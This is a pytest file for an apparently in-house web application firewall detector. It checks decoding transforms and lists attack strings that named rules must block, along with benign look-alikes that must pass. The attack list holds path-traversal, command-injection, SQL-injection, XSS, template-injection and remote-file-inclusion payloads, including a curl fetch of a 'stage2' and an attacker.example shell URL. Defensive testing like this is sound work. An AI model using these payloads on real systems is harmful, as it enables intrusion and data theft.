"""Rules and transforms added in the second accuracy round.

Every example below was written for this test (not taken from a corpus). Each rule gets
attacks it must block, with the rule id that must fire, and look-alikes from ordinary API
traffic that must pass at paranoia level 1.
"""

from __future__ import annotations

import json
from urllib.parse import urlencode

import pytest

from dijk.detect.engine import Detector
from dijk.detect.findings import RequestParts
from dijk.detect.normalise import (
    hex_literal_decode,
    iis_decode,
    shell_unquote,
    variants,
)

DETECTOR = Detector()


def findings(q: str) -> tuple[bool, set[str], set[str]]:
    """(blocked, rule ids, transforms) for ``q`` sent as a query parameter."""
    verdict = DETECTOR.inspect(
        RequestParts.from_target("GET", "/api/v1/search?" + urlencode({"q": q}))
    )
    return (
        verdict.blocked,
        {f.rule_id for f in verdict.findings},
        {f.transform for f in verdict.findings},
    )


def json_findings(value: str) -> tuple[bool, set[str]]:
    body = json.dumps({"order": {"note": value}}).encode()
    verdict = DETECTOR.inspect(
        RequestParts.from_target(
            "POST", "/api/v1/orders", [("Content-Type", "application/json")], body
        )
    )
    return verdict.blocked, {f.rule_id for f in verdict.findings}


# -- transforms --------------------------------------------------------------------------


def test_iis_decode_reads_non_hex_letters_as_digits() -> None:
    # 'p' counted as 25 by IIS: %c1%pc -> C1 9C, an overlong backslash.
    assert iis_decode("..%c1%pc..%c1%pcwin.ini") == "..\\..\\win.ini"
    # %bg%qf -> C0 AF, an overlong slash.
    assert iis_decode("%bg%qfetc%bg%qfpasswd") == "/etc/passwd"


def test_iis_variant_is_only_made_for_non_hex_escapes() -> None:
    assert all(label != "iis" for label, _ in variants("100%25 sure %2e"))
    assert any(label == "iis" for label, _ in variants("..%c0%9v..%c0%9vboot.ini"))


def test_hex_literals_are_spelled_out_only_when_repeated() -> None:
    assert hex_literal_decode("0x2e0x2e0x2fetc") == "../etc"
    assert hex_literal_decode("colour 0x2e") == "colour 0x2e"
    assert hex_literal_decode("0xdeadbeef 0x10") == "0xdeadbeef 0x10"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("wh'o'ami", "whoami"),
        ('c"a"t /etc/passwd', "cat /etc/passwd"),
        ("c\\at /etc/passwd", "cat /etc/passwd"),
        ("c$@at /etc/hosts", "cat /etc/hosts"),
        ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
        ("ca${x}t /etc/passwd", "cat /etc/passwd"),
        ("c$u\\at /etc/passwd", "cat /etc/passwd"),
        ("don't stop", "don't stop"),
        ("costs $HOME", "costs $HOME"),
    ],
)
def test_shell_unquote_reads_words_as_the_shell_does(text: str, expected: str) -> None:
    assert shell_unquote(text) == expected


# -- attacks -----------------------------------------------------------------------------

ATTACKS = [
    # path traversal
    ("..%c1%pc..%c1%pc..%c1%pcwindows%c1%pcwin.ini", "path-traversal-dotdot"),
    ("%c0%2f%c0%2e%c0%2e%c0%2fsecret", "path-traversal-invalid-utf8"),
    ("0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fshadow", "path-traversal-dotdot"),
    ("\\\\127.0.0.1\\c$\\users\\admin\\ntuser.dat", "path-traversal-sensitive-file"),
    ("type %SYSTEMROOT%\\repair\\sam", "path-traversal-sensitive-file"),
    ("..%%35%%63..%%35%%63boot.ini", "path-traversal-double-percent"),
    # command injection
    ("net view", "cmdi-recon-command-alone"),
    ("nohup bash", "cmdi-recon-command-alone"),
    ("whoami; id", "cmdi-recon-command-alone"),
    ("cd /tmp; ls", "cmdi-recon-command-alone"),
    ("find . -name '*.key' -exec cat {} ;", "cmdi-recon-command-alone"),
    ("powershell Invoke-WebRequest -Uri x", "cmdi-recon-command-alone"),
    ("x; lastlog", "cmdi-chained-command"),
    ("diff <(cat a) b", "cmdi-command-substitution"),
    ("{,echo,hello}", "cmdi-ifs-evasion"),
    ("() { ignored", "cmdi-shellshock"),
    ("SELECT sleep(rand())", "sqli-time-function"),
    ("\u2018 OR \u20181\u2018=\u20181\u2018--", "sqli-tautology-quoted"),
    ('self["\\x65val"]', "xss-js-sink"),
    ("netsh advfirewall set allprofiles state off", "cmdi-recon-command-alone"),
    ('reg add "HKLM\\Software\\X" /v y /d 1', "cmdi-recon-command-alone"),
    ("; find / -perm -4000", "cmdi-chained-word-command"),
    ("x && time /usr/bin/id", "cmdi-chained-word-command"),
    ("x | sh -c 'id'", "cmdi-shell-dash-c"),
    ("report; whoami", "cmdi-chained-command"),
    ("c89 -wrapper sh,-c,id .", "cmdi-shell-dash-c"),
    ("uname -a", "cmdi-recon-command-alone"),
    ("ls -la /var/www", "cmdi-recon-command-alone"),
    ("curl https://203.0.113.7/stage2", "cmdi-recon-command-alone"),
    ("cat /???/??ss??", "cmdi-glob-path"),
    ("x;`cat<<<id`", "cmdi-command-substitution"),
    ("wh'o'am'i'", "cmdi-recon-command-alone"),
    (":(){ :|:& };:", "cmdi-shellshock"),
    ("& for /f %i in (users.txt) do net user %i", "cmdi-windows"),
    ('if "%A%" equ "1" echo pwned', "cmdi-windows"),
    ("x; chmod +x /tmp/run.sh", "cmdi-chained-command"),
    # SQL injection
    ("' OR '{\"x\":1}'::jsonb @> '{\"x\":1}'--", "sqli-postgres-json-operator"),
    ("\\' or 1=1 limit 1", "sqli-escaped-quote-breakout"),
    ("admin@example.org';", "sqli-email-breakout"),
    ("x; ALTER TABLE users ADD admin int", "sqli-ddl-statement"),
    ("DECLARE @q NVARCHAR(200)", "sqli-ddl-statement"),
    ("DELETE FROM sessions;--", "sqli-destructive-statement"),
    ("select * from sysusers", "sqli-select-from"),
    ("BACKUP DATABASE master TO DISK='x'", "sqli-ddl-statement"),
    ("x'; create user eve identified by 'pw'", "sqli-ddl-statement"),
    ("copy secrets to '/tmp/out.csv'", "sqli-ddl-statement"),
    ("' || pkg.grant_admin('eve') || '", "sqli-ddl-statement"),
    ("1 or /*+ hint */ true", "sqli-cast-or-hint"),
    ("substr(secret,1,1)::int", "sqli-cast-or-hint"),
    ("ORDER BY 12", "sqli-order-group-probe"),
    ("1/*!50000'*/", "sqli-mysql-comment-keyword"),
    # XSS
    ("<a href='java&Tab;script:go()'>x</a>", "xss-spread-script-scheme"),
    ("+ADw-script+AD4-go()+ADw-/script+AD4-", "xss-alternative-angle-brackets"),
    ("(![]+[])[+!+[]]", "xss-js-obfuscation"),
    ("[].map.call`${eval}`", "xss-js-obfuscation"),
    ("<v:vmlframe src=x>", "xss-dangerous-tag"),
    ("width:-moz-binding:url(x.xml#y)", "xss-style-expression"),
    # SSTI
    ("{{ request.application }}", "ssti-object-traversal"),
    ("{{dump(app)}}", "ssti-engine-directive"),
    ("{$smarty.version}", "ssti-engine-directive"),
    ("{{['id']|filter('system')}}", "ssti-engine-directive"),
    # remote file inclusion
    ("http://198.51.100.23/shell.php", "ssrf-remote-file-inclusion"),
    ("https://attacker.example/payload.txt?", "ssrf-remote-file-inclusion"),
]


@pytest.mark.parametrize(("text", "rule_id"), ATTACKS)
def test_new_rules_block_their_attack(text: str, rule_id: str) -> None:
    blocked, rules, _ = findings(text)
    assert blocked, text
    assert rule_id in rules, (text, rules)


def test_attacks_are_found_inside_json_too() -> None:
    for text, rule_id in ATTACKS[::4]:
        blocked, rules = json_findings(text)
        assert blocked, text
        assert rule_id in rules, (text, rules)


def test_the_transform_that_revealed_an_iis_spelling_is_reported() -> None:
    _, _, transforms = findings("..%c1%pc..%c1%pcboot.ini")
    assert "iis" in transforms


# -- look-alikes that must pass -----------------------------------------------------------

BENIGN = [
    "JavaScript: The Good Parts",
    "java script: two words",
    "Use `id` and `type` to address the node; see `ls` in the docs.",
    "Rock & Roll <3",
    "O'Brien's pub; find us at the corner",
    "set the time - 10 minutes",
    "The endpoint https://api.example.com/... returns a page",
    "price is $5; type it in",
    "who am I?",
    "sort by date, then time",
    "Download https://example.com/report.pdf",
    "Website: https://example.com/index.php",
    "The author's email is ann@example.org",
    "alter the table layout in the settings",
    "if you can, echo the request back",
    "for each item in (a, b, c) do the same",
    "1.e.g. section",
    "{{name}} and {{ user.email }} in a mail template",
    "50% off for 2 weeks",
    "Café Zürich: ½ price",
    "I\u2019m \u2018happy\u2019 or \u2018sad\u2019",
    "ls",
    "whoami is a command name",
    "net view of the market",
    "find the nearest branch",
    "time to leave",
    "cd /music collection",
    "What is the sleep (hours) target?",
    "Backup your database to disk daily",
    "copy the invoice to your records",
    "100%% sure, 50%% off",
]


@pytest.mark.parametrize("text", BENIGN)
def test_look_alikes_pass(text: str) -> None:
    blocked, rules, _ = findings(text)
    assert not blocked, (text, rules)


def test_a_lone_apostrophe_does_not_send_a_value_through_the_decoders(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Cost regression: names like O'Neill are common in API bodies; only quotes that split
    # a word twice (wh'o'ami, 'c'at) are worth the shell-unquoting variant.
    import dijk.detect.engine as engine

    decoded: list[str] = []
    original = engine.variants

    def spy(text: str) -> list[tuple[str, str]]:
        decoded.append(text)
        return original(text)

    monkeypatch.setattr(engine, "variants", spy)
    body = json.dumps({"customer": {"name": "Bram O'Neill", "note": "it's fine"}}).encode()
    DETECTOR.inspect(
        RequestParts.from_target("POST", "/x", [("Content-Type", "application/json")], body)
    )
    assert decoded == []
    findings("wh'o'ami")
    assert "wh'o'ami" in decoded
